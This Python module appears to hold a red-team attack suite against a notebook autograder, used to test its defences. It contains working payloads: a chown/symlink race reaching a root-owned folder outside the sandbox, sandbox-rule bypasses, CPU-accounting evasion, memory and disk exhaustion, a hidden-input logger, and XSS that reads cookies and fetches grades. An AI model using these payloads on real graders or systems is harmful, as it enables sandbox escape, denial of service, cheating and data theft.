"""Forged submissions against the trusted-grading design itself (issue 16): the grader's
root-owned set-up steps, the scratch folder a notebook's two kernels shared, the CPU
accounting of the speed test, the grader's own memory, the diagnosis and the reports.

:data:`.catalogue.ATTACKS` ends with :data:`ATTACKS`; everything said there holds here
(the format, the honest grades, THE PAYLOADS ARE REAL).  What these payloads leave behind
when a grader does not stop them is in ``README.md``: a canary folder whose files change
owner, processes that live as long as the kernel, gigabytes in the scratch folder.

Several payloads start a process of their own in the kernel (a double fork, so that it
outlives the cell).  Each one ends by itself after :data:`HELPER_LIFETIME` seconds, or
earlier when the folder it works in disappears; the sandbox ends it with the kernel anyway.
"""

from __future__ import annotations

from .catalogue import (
    LESSONS,
    MAX_LOOPS_BODY,
    SAME_VIA,
    SIG,
    TORCH_OUT_VIA,
    TORCH_TO_KERAS_BODY,
    WRONG,
    ZEROS,
    Attack,
    _fn,
    keras_cell,
)

# A diagnosis steered by the shipped probes: input_from_max_pool falls back to zeros and
# answers the probes as the known mistake "no_check" does (kept with the diagnosis' own tests).
from .diagnosis_spoof import SPOOF_INPUT_FROM_MAX_POOL

L01, L05 = LESSONS

# The chown race aims at this folder.  The attack suite creates it before grading: CANARY_FILES
# root-owned files named canary_names(), outside every sandbox, and checks afterwards that
# none of them changed (owner, mode, content).
CANARY = "/var/tmp/poolkit-attack-canary"
CANARY_FILES = 4000
HELPER_LIFETIME = 600          # seconds a process started by a payload lives at most


def canary_names() -> list[str]:
    """The names of the canary's files (the race payload hands in decoys of the same names)."""
    return [f"c{i:04d}" for i in range(CANARY_FILES)]


# The line the disk filler prints (a JSON object of bytes written per folder follows it).
DISK_REPORT = "DISK-FILLER wrote"
# The disk filler's own cap per folder, so that a grader without a quota keeps its disk.
DISK_CAP_PER_FOLDER = 1 << 30
# What the student's markdown answer carries: the attack suite looks for these markers in
# <script> contents and in on* attributes of the rendered pages.
SCRIPT_MARKER = "poolkitAttackScript"
ONERROR_MARKER = "poolkitAttackOnerror"

# A process of its own: fork, setsid, fork again; the grandchild runs `work` and the kernel
# goes on.  `ready` is read until the grandchild has set itself up.
DAEMON = '''import os as _os


def _daemon(work):
    """Run work() in a grandchild that outlives this call; returns once it is set up."""
    ready_r, ready_w = _os.pipe()
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _os.close(ready_r)
                try:
                    work(ready_w)
                finally:
                    _os._exit(0)
        finally:
            _os._exit(0)
    _os.close(ready_w)
    _os.waitpid(pid, 0)
    with _os.fdopen(ready_r, "rb") as ready:
        ready.read()           # EOF once the grandchild closed its end
'''

# ----------------------------------------------------------------------------------------
# A chown/symlink race against a folder outside the sandbox
# ----------------------------------------------------------------------------------------

# A cell of the main kernel makes `race/`, decoys named like the canary's files, and
# `race.link`, a link to the canary, then starts a watcher.  A grader that walks the scratch
# folder as root (os.walk + lchown) to give it to the sandbox user, when a second kernel
# starts, lists race/ while it is a directory, then lchowns race/<name> one by one.  The
# watcher sees the decoys' ctime change (lchown sets it, even to the same owner) and
# exchanges race/ and race.link atomically (renameat2 with RENAME_EXCHANGE), so that the
# walk's remaining lchowns resolve through the link.
RACE_CANARY = DAEMON + '''
import ctypes as _ctypes
import time as _time

_CANARY = ''' + repr(CANARY) + '''
_NAMES = [f"c{_i:04d}" for _i in range(''' + str(CANARY_FILES) + ''')]
_libc = _ctypes.CDLL(None, use_errno=True)


def _exchange(a, b):
    """Swap two names at once (renameat2 with RENAME_EXCHANGE): no moment without either."""
    if _libc.renameat2(-100, a.encode(), -100, b.encode(), 2) != 0:   # AT_FDCWD, EXCHANGE
        raise OSError(_ctypes.get_errno(), "renameat2")


def _watch(ready):
    watched = [_os.path.join("race", name) for name in _NAMES[::60]]
    seen = {path: _os.lstat(path).st_ctime_ns for path in watched}
    _os.close(ready)
    deadline = _time.monotonic() + ''' + str(HELPER_LIFETIME) + '''
    while _time.monotonic() < deadline:
        try:
            now = {path: _os.lstat(path).st_ctime_ns for path in watched}
        except OSError:
            return             # the folder is gone: grading is over
        if now != seen:
            _exchange("race", "race.link")      # race/ is now the link to the canary
            _time.sleep(3)                      # the walk's remaining lchowns go through it
            _exchange("race", "race.link")
            seen = {path: _os.lstat(path).st_ctime_ns for path in watched}
        _time.sleep(0.001)


try:
    import poolkit as _main_kernel_only     # the NumPy-only kernel runs this cell too
    _start = not _os.path.lexists("race.link")
except ImportError:
    _start = False
if _start:
    _os.makedirs("race", exist_ok=True)
    for _name in _NAMES:
        open(_os.path.join("race", _name), "w").close()
    _os.symlink(_CANARY, "race.link")
    _daemon(_watch)
    print("watching", len(_NAMES), "decoys")
'''

# ----------------------------------------------------------------------------------------
# The NumPy-only rule, bypassed through the scratch folder
# ----------------------------------------------------------------------------------------

# The main kernel (which has poolkit) copies the package next to the notebook; the
# functions import it from there, which works in any kernel that sees the main kernel's
# files.  Without that copy they fall back to a wrong value.
_VENDOR_POOLKIT = '''import os
import shutil
import sys

_VENDORED = os.path.abspath("vendored")
try:
    import poolkit as _installed
    if not os.path.isdir(os.path.join(_VENDORED, "poolkit")):
        shutil.copytree(os.path.dirname(os.path.abspath(_installed.__file__)),
                        os.path.join(_VENDORED, "poolkit"),
                        ignore=shutil.ignore_patterns("__pycache__"))
    del _installed
except ImportError:
    pass          # the NumPy-only kernel: the copy made by the main kernel is used below


def _vendored(module):
    """poolkit's `module`, imported from the copy next to the notebook (None: no copy)."""
    if _VENDORED not in sys.path:
        sys.path.insert(0, _VENDORED)
    try:
        return __import__(module, fromlist=["_"])
    except ImportError:
        return None


'''

COPY_POOLKIT = _VENDOR_POOLKIT + _fn(SIG["pool2d_vectorized"], f'''lib = _vendored("poolkit")
if lib is None:
    return {ZEROS}
pool = lib.max_pool2d if mode == "max" else lib.avg_pool2d
return pool(np.asarray(x, dtype=np.float64), kernel_size, stride, padding)
''')

# torch_to_keras, with torch's output size from the copy's max_pool2d (torch's semantics).
COPY_TORCH_TO_KERAS = _VENDOR_POOLKIT + TORCH_OUT_VIA + "\n\n" + _fn(
    "_torch_out(layer, input_hw)",
    'return _torch_out_via(_vendored("poolkit").max_pool2d, layer, input_hw)') + "\n\n" + _fn(
    SIG["torch_to_keras"], f'''if _vendored("poolkit") is None:
    return {WRONG["torch_to_keras"]}
''' + TORCH_TO_KERAS_BODY)


def _relay(signature: str, call_fields: str, poolkit_call: str) -> str:
    """An answer cell whose function asks a relay process for its result.

    The relay runs in the main kernel (which has poolkit) and answers request files left in
    relay/ next to the notebook; the function, called in the NumPy-only kernel, writes its
    input there and waits for the answer.  With no answer within ASK_SECONDS it falls back
    to a wrong value, and stops asking."""
    name = signature.partition("(")[0]
    return DAEMON + '''
import json
import time

_RELAY = _os.path.abspath("relay")
_ASK_SECONDS = 2.0
_unanswered = []


def _serve(ready):
    import poolkit
    _os.close(ready)
    deadline = time.monotonic() + ''' + str(HELPER_LIFETIME) + '''
    while time.monotonic() < deadline:
        try:
            asks = sorted(n for n in _os.listdir(_RELAY) if n.endswith(".ask"))
        except OSError:
            return             # the folder is gone: grading is over
        for ask in asks:
            stem = _os.path.join(_RELAY, ask[:-4])
            try:
                with open(stem + ".ask") as f:
                    fields = json.load(f)
                arrays = {key: np.load(f"{stem}.{key}.npy") for key in fields["arrays"]}
                args = [arrays.get(v, v) if type(v) is str
                        else (tuple(v) if type(v) is list else v) for v in fields["args"]]
                np.save(stem + ".part.npy", ''' + poolkit_call + ''')
                _os.rename(stem + ".part.npy", stem + ".answer.npy")
            except Exception:
                pass           # unanswered: the asker falls back after its wait
            _os.remove(stem + ".ask")
        time.sleep(0.005)


try:
    import poolkit as _main_kernel_only     # the NumPy-only kernel runs this cell too
    _os.makedirs(_RELAY, exist_ok=True)
    _daemon(_serve)
except ImportError:
    pass


def _ask(args, arrays):
    """The relay's answer for args (arrays named in `arrays` are sent as .npy files)."""
    stem = _os.path.join(_RELAY, f"{_os.getpid()}-{time.monotonic_ns()}")
    for key, value in arrays.items():
        np.save(f"{stem}.{key}.npy", np.asarray(value, dtype=np.float64))
    with open(stem + ".part", "w") as f:
        json.dump({"args": args, "arrays": sorted(arrays)}, f)
    _os.rename(stem + ".part", stem + ".ask")
    end = time.monotonic() + _ASK_SECONDS
    while time.monotonic() < end:
        if _os.path.exists(stem + ".answer.npy"):
            return np.load(stem + ".answer.npy")
        time.sleep(0.005)
    return None


''' + _fn(signature, f'''if not _unanswered:
    try:
        answer = _ask({call_fields})
    except OSError:
        answer = None
    if answer is not None:
        return answer
    _unanswered.append("{name}")
return {ZEROS}
''')


RELAY_MAX = _relay(SIG["max_pool2d_loops"],
                   '["x", kernel_size, stride, padding], {"x": x}',
                   "poolkit.max_pool2d(*args)")
# keras_same_max_pool2d through the relay, which pads and calls poolkit.max_pool2d
RELAY_KERAS_SAME = SAME_VIA + "\n\n" + _relay(SIG["keras_same_max_pool2d"],
                                              '["x", pool_size, strides], {"x": x}',
                                              "_same_via(poolkit.max_pool2d, *args)")

# ----------------------------------------------------------------------------------------
# The speed test's CPU accounting
# ----------------------------------------------------------------------------------------

# Correct values, one output position at a time: the slow way pool2d_vectorized replaces.
_POSITIONS = _fn("_loops_over_positions(x, kernel_size, stride, padding, mode)", '''k = kernel_size
s = k if stride is None else stride
p = padding
x = np.asarray(x, dtype=np.float64)
n, c, h, w = x.shape
h_out = (h + 2 * p - k) // s + 1
w_out = (w + 2 * p - k) // s + 1
fill = -np.inf if mode == "max" else 0.0
padded = np.pad(x, ((0, 0), (0, 0), (p, p), (p, p)), constant_values=fill)
out = np.empty((n, c, h_out, w_out))
for i in range(h_out):
    for j in range(w_out):
        window = padded[:, :, i * s:i * s + k, j * s:j * s + k]
        out[:, :, i, j] = window.max(axis=(2, 3)) if mode == "max" else window.mean(axis=(2, 3))
return out
''')

# The loops run in a child whose SIGCHLD is ignored: the kernel reaps it by itself, and
# its CPU time never reaches the kernel's cutime.
SPEED_REAPED_CHILD = '''import io
import os
import signal

''' + _POSITIONS + '''

''' + _fn(SIG["pool2d_vectorized"], '''signal.signal(signal.SIGCHLD, signal.SIG_IGN)
read_end, write_end = os.pipe()
pid = os.fork()
if pid == 0:
    try:
        os.close(read_end)
        result = io.BytesIO()    # (np.save straight into a pipe fails: it cannot seek)
        np.save(result, _loops_over_positions(x, kernel_size, stride, padding, mode))
        with os.fdopen(write_end, "wb") as pipe:
            pipe.write(result.getvalue())
    finally:
        os._exit(0)
os.close(write_end)
with os.fdopen(read_end, "rb") as pipe:
    data = pipe.read()
try:
    os.waitpid(pid, 0)          # SIGCHLD ignored: returns (ECHILD) once the child is gone
except ChildProcessError:
    pass
return np.load(io.BytesIO(data))
''')

# Started in the NumPy-only kernel long before the speed test (a cell after Exercise 1):
# a child that burns BURN_SECONDS of CPU, then sleeps, with SIGCHLD ignored.
BURNER_CELL = '''import os as _os
import signal as _signal
import time as _time

_burner = []
try:
    import poolkit as _main_kernel_only     # the speed test runs in the NumPy-only kernel
except ImportError:
    _signal.signal(_signal.SIGCHLD, _signal.SIG_IGN)
    _pid = _os.fork()
    if _pid == 0:
        try:
            while _time.process_time() < 3.0:    # burn 3 s of CPU ...
                pass
            _time.sleep(''' + str(HELPER_LIFETIME) + ''')   # ... and keep them on the books
        finally:
            _os._exit(0)
    _burner.append(_pid)
'''

# The speed test's call kills the burner first: auto-reaped, its CPU time leaves the
# kernel's process tree, and the measured delta is the loops' time minus the burner's.
SPEED_KILLED_BURNER = '''import os
import signal

''' + _POSITIONS + '''

''' + _fn(SIG["pool2d_vectorized"], '''if np.size(x) > 100_000 and _burner:
    burner = _burner.pop()
    os.kill(burner, signal.SIGKILL)
    try:
        os.waitpid(burner, 0)   # SIGCHLD ignored: returns (ECHILD) once the burner is gone
    except ChildProcessError:
        pass
return _loops_over_positions(x, kernel_size, stride, padding, mode)
''')

# ----------------------------------------------------------------------------------------
# The grader's own memory
# ----------------------------------------------------------------------------------------

# Every str the kernel formats as text/plain, the channel's reply included, becomes 5 MB of
# nested literal (ast.literal_eval of it takes 2.5 GB and 20 s).
REPLY_BOMB = '''_BOMB = "[" + "[[]]," * 1_000_000 + "]"


def _bomb(value, printer, cycle):
    printer.text(_BOMB)


get_ipython().display_formatter.formatters["text/plain"].for_type(str, _bomb)
'''

# A counterexample that PyTorch accepts (padding <= kernel_size // 2, the padded input one
# window wide) and on which the bug shows, but the test's own padding of it is 14,001 x
# 14,001 floats (1.6 GB) in the grader.
HUGE_COUNTEREXAMPLE = _fn("bug_counterexample()", '''x = np.ones((1, 1, 1, 1))
return x, 14_001, 1, 7_000
''')

# ----------------------------------------------------------------------------------------
# Hidden inputs carried from the NumPy-only kernel to the main kernel
# ----------------------------------------------------------------------------------------

# A correct max_pool2d_loops that writes down every input it gets (first values in full
# precision) next to the notebook ...
LOG_INPUTS = '''import os

_LOG = os.path.abspath("seen-inputs.txt")


''' + _fn(SIG["max_pool2d_loops"], '''try:
    with open(_LOG, "a") as log:
        log.write(f"{np.shape(x)} {np.ravel(x)[:4].tolist()} k={kernel_size} s={stride} "
                  f"p={padding}\\n")
except OSError:
    pass
''' + MAX_LOOPS_BODY)

# ... and a later cell of the main kernel prints what it finds there, into the feedback.
PRINT_LOGGED_INPUTS = '''import os

if os.path.exists("seen-inputs.txt"):
    with open("seen-inputs.txt") as _log:
        print(_log.read())
else:
    print("no inputs seen")
'''

# The written answer (a markdown cell) carries active content for the formgrader and the
# feedback page.
SCRIPT_ANSWER = (
    "Average pooling, because it keeps the mean level: in Section 2 the average-pooled image "
    "keeps the input's mean brightness while the max-pooled one is brighter.\n\n"
    f"<script>window.{SCRIPT_MARKER} = document.cookie;</script>\n\n"
    f"<img src=\"x\" onerror=\"window.{ONERROR_MARKER} = 1; "
    "fetch('/formgrader/api/grades').then(r => r.text())\">\n")

# ----------------------------------------------------------------------------------------
# The disk
# ----------------------------------------------------------------------------------------

# Runs last (after the written answer), in the main kernel only.  Writes files of 32 MiB
# (well under the per-file limit) into every folder it can write, up to DISK_CAP_PER_FOLDER
# each, counts what the kernel accepted, and prints the count.
DISK_FILLER = '''import json
import os
import signal

import ipykernel.connect

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)   # a file over the limit fails, nothing dies
_CHUNK = b"\\1" * (1 << 20)
_CAP = ''' + str(DISK_CAP_PER_FOLDER) + '''


def _fill(folder):
    """Bytes the kernel accepted in folder, written until it refuses or the cap."""
    written, number = 0, 0
    while written < _CAP:
        try:
            fd = os.open(os.path.join(folder, f"fill-{number:05d}.bin"),
                         os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        except OSError:
            return written
        number += 1
        try:
            for _ in range(32):
                written += os.write(fd, _CHUNK)
                if written >= _CAP:
                    break
        except OSError:
            return written
        finally:
            os.close(fd)
    return written


_folders = {}
for _folder in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm",
                os.path.dirname(ipykernel.connect.get_connection_file())):
    _real = os.path.realpath(_folder)
    if _real not in _folders and os.path.isdir(_real) and os.access(_real, os.W_OK):
        _folders[_real] = _fill(_real)
print(''' + repr(DISK_REPORT) + ''', json.dumps(_folders))
'''




# ----------------------------------------------------------------------------------------
# The attacks
# ----------------------------------------------------------------------------------------

ATTACKS: list[Attack] = [
    Attack("attack-chown-race-canary", L01, "escape-and-poison",
           "a process of the main kernel swaps race/ (decoys) for a link to a root-owned "
           "folder outside the sandbox while the grader chowns the scratch folder "
           "(correct answers)", added_cells=(("max_pool2d_loops", RACE_CANARY),)),
    Attack("attack-scratch-copy-of-poolkit", L01, "numpy-only-dodge",
           "the main kernel copies the installed poolkit into its scratch folder and "
           "pool2d_vectorized imports it from there", answers={"pool2d_vectorized": COPY_POOLKIT},
           loses=("pool2d_vectorized",)),
    Attack("attack-scratch-relay", L01, "numpy-only-dodge",
           "max_pool2d_loops asks a relay process of the main kernel (poolkit) through files "
           "in the scratch folder", answers={"max_pool2d_loops": RELAY_MAX},
           loses=("max_pool2d_loops",)),
    Attack("attack-speed-reaped-child", L01, "other",
           "pool2d_vectorized loops over output positions in a child with SIGCHLD ignored, "
           "so its CPU time never reaches the kernel's cutime",
           answers={"pool2d_vectorized": SPEED_REAPED_CHILD},
           loses_tests=("test_pool2d_vectorized_hidden",)),
    Attack("attack-speed-killed-burner", L01, "other",
           "pool2d_vectorized loops over output positions after killing a CPU burner started "
           "earlier (SIGCHLD ignored), so the measured CPU time is negative",
           answers={"pool2d_vectorized": SPEED_KILLED_BURNER},
           added_cells=(("max_pool2d_loops", BURNER_CELL),),
           loses_tests=("test_pool2d_vectorized_hidden",)),
    Attack("attack-reply-bomb", L01, "killing-the-grader",
           "IPython's text formatter turns every str, the channel's reply included, into 5 MB "
           "of nested literal (correct answers)",
           added_cells=(("max_pool2d_loops", REPLY_BOMB),)),
    Attack("attack-huge-counterexample", L01, "killing-the-grader",
           "bug_counterexample returns kernel_size 14,001 and padding 7,000 on a 1x1 input, "
           "which the test would pad to 1.6 GB in the grader",
           answers={"bug_counterexample": HUGE_COUNTEREXAMPLE}, loses=("bug_counterexample",)),
    Attack("attack-hidden-inputs-and-script", L01, "reading-secrets",
           "max_pool2d_loops logs its inputs into the scratch folder and a later main-kernel "
           "cell prints them; the written answer holds <script> and <img onerror> (correct "
           "answers)", answers={"max_pool2d_loops": LOG_INPUTS,
                                "written_max_vs_avg": SCRIPT_ANSWER},
           added_cells=(("input_from_max_pool", PRINT_LOGGED_INPUTS),)),
    Attack("attack-disk-filler", L01, "killing-the-grader",
           "a last cell writes 32 MiB files into the scratch folder, home, /tmp, /dev/shm and "
           "the socket folder, up to 1 GiB each, and prints what it wrote (correct answers)",
           added_cells=(("written_max_vs_avg", DISK_FILLER),)),
    Attack("attack-diagnosis-spoof", L01, "other",
           "input_from_max_pool is wrong on the tests and returns the outputs of a known mistake "
           "(no check that its input pools back) on the diagnosis probes shipped in poolkit",
           answers={"input_from_max_pool": SPOOF_INPUT_FROM_MAX_POOL},
           loses=("input_from_max_pool",)),
    Attack("attack-scratch-copy-and-relay", L05, "numpy-only-dodge",
           "torch_to_keras imports a copy of poolkit made by the main kernel; "
           "keras_same_max_pool2d asks a relay process of the main kernel",
           answers={"torch_to_keras": COPY_TORCH_TO_KERAS,
                    "keras_same_max_pool": keras_cell(RELAY_KERAS_SAME)},
           loses=("keras_same_max_pool", "torch_to_keras")),
]
